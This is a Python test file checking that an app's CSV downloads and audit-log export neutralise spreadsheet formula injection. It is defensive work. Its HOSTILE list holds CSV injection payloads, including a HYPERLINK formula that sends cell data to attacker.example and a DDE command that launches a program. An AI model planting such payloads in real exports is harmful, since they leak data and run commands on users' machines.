"""Every CSV a user downloads is formula-safe (OWASP CSV injection), with the snapshots' one helper:
the tables' "Descargar CSV" (pages/ui.py table) and the audit-log export."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from assessments.access import LOCAL_USER
from assessments.access_audit import AuditFilter, export_audit_csv
from assessments.snapshot import formula_safe_csv, restore
from db.audit import record
from db.engine import write_session

HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1", "\r=1"]


def rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_formula_safe_csv_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame({"=name": [*HOSTILE, "plain"], "score": [-1.5, 2, 3, -4, 5, 6, 7],
                          "label": pd.Categorical(["=a", "b", "b", "b", "b", "b", "b"])})
    header, *body = rows(formula_safe_csv(frame))
    assert header == ["'=name", "score", "label"]
    assert [r[0] for r in body] == ["'" + text for text in HOSTILE] + ["plain"]
    assert [restore(r[0]) for r in body][:len(HOSTILE)] == HOSTILE  # reversible, like a snapshot
    assert [r[1] for r in body] == ["-1.5", "2.0", "3.0", "-4.0", "5.0", "6.0", "7.0"]  # numbers stay numbers
    assert body[0][2] == "'=a"


@pytest.fixture
def downloads(monkeypatch) -> list:
    import streamlit as st

    captured: list = []
    monkeypatch.setattr(st, "download_button", lambda label, data=None, **kwargs: captured.append(data))
    monkeypatch.setattr(st, "dataframe", lambda *args, **kwargs: None)
    return captured


@pytest.mark.parametrize("page_rows", [None, 2])
def test_a_tables_csv_download_is_formula_safe(downloads, page_rows):
    from pages import ui

    frame = pd.DataFrame({"cluster": HOSTILE, "n": range(len(HOSTILE))})
    ui.table(frame, file_name="t.csv", key="hostile", column_labels={"cluster": "Clúster"}, page_rows=page_rows)
    data = downloads[-1]() if callable(downloads[-1]) else downloads[-1]
    header, *body = rows(data)
    assert header == ["Clúster", "n"]
    assert [r[0] for r in body] == ["'" + text for text in HOSTILE]
    assert [r[1] for r in body] == [str(i) for i in range(len(HOSTILE))]


def test_the_audit_log_export_is_formula_safe(db_url):
    with write_session() as session:
        record(session, LOCAL_USER, "update", "cluster", None, reason=HOSTILE[0])
    with write_session() as session:
        content = export_audit_csv(session=session, actor=LOCAL_USER, filters=AuditFilter(entity="cluster"),
                                   headers={"reason": "Motivo"})
    exported = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r["Motivo"] for r in exported] == ["'" + HOSTILE[0]]
